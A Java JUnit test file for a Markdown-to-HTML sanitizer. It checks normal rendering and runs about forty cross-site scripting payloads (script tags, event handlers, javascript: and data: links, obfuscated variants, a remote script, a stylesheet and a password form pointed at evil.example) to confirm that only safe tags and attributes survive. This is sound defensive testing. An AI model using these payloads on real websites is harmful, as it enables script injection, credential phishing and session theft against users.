package org.learningcities.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Long texts of people become HTML that does no harm wherever it stands. */
class MarkdownTest {
    private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z0-9]+)((?:\\s[^>]*)?)>");
    private static final Pattern ATTRIBUTES =
            Pattern.compile("( (href=\"((https?:|mailto:)[^\"<>]*)?\"|rel=\"[a-z ]+\"))* ?/?");

    @Test
    void what_people_write_is_shown_as_they_mean_it() {
        assertThat(
                        Markdown.html(
                                "# Plan\n\n**All** of *us*:\n\n1. read\n2. learn\n\n> Ask [us](https://example.org/?a=1&b=2) or <info@example.org>"))
                .contains(
                        "<h1>Plan</h1>", "<strong>All</strong>", "<em>us</em>", "<ol>", "<li>read</li>", "<blockquote>")
                .contains("href=\"https://example.org/?a&#61;1&amp;b&#61;2\"", "href=\"mailto:info&#64;example.org\"")
                .contains("nofollow", "noopener", "ugc");
        assertThat(Markdown.html("تعلّم **مدى** الحياة")).isEqualTo("<p>تعلّم <strong>مدى</strong> الحياة</p>\n");
        assertThat(Markdown.html("![A library](https://example.org/l.png) is open"))
                .isEqualTo("<p>A library is open</p>\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<form action=https://evil.example><input name=password></form>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\" id=location name=cookie>x</div>",
                "<!-- --><script>alert(1)</script> -->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](file:///etc/passwd)",
                "[x](https://example.org/\"onmouseover=\"alert(1))",
                "[x](<https://example.org/ \" onmouseover=alert(1) x=\">)",
                "[x](https://example.org 'title\" onclick=\"alert(1)')",
                "![x](javascript:alert(1))",
                "![x](x\"onerror=\"alert(1))",
                "![a](https://tracker.example/p.gif)",
                "[a]: javascript:alert(1)\n\n[a]",
                "<javascript:alert(1)>",
                "[[x](javascript:alert(1))](https://example.org)",
                "`<script>alert(1)</script>`",
                "```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
                "# <script>alert(1)</script>",
                "> <img src=x onerror=alert(1)>",
                "\u0000<script>alert(1)</script>",
                "<a href=\"https://example.org\" target=_blank onclick=alert(1)>x</a>",
                "<style>@import 'https://evil.example/x.css';</style>"
            })
    void an_attack_is_shown_as_text_or_not_at_all(String attack) {
        String html = Markdown.html(attack);
        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(tags.group(2))
                    .as(html)
                    .isIn(
                            "p",
                            "br",
                            "h1",
                            "h2",
                            "h3",
                            "h4",
                            "h5",
                            "h6",
                            "strong",
                            "em",
                            "ul",
                            "ol",
                            "li",
                            "blockquote",
                            "code",
                            "pre",
                            "hr",
                            "a");
            assertThat(tags.group(3)).as(html).matches(ATTRIBUTES);
        }
        assertThat(html.replaceAll("(?s)" + TAG.pattern(), ""))
                .as("no other tag")
                .doesNotContain("<");
    }

    @Test
    void a_deeply_nested_text_takes_no_long_time() {
        long before = System.nanoTime();
        Markdown.html("> ".repeat(5_000) + "x");
        Markdown.html("[".repeat(10_000));
        Markdown.html("*a ".repeat(6_000));
        assertThat(System.nanoTime() - before).isLessThan(5_000_000_000L);
    }
}
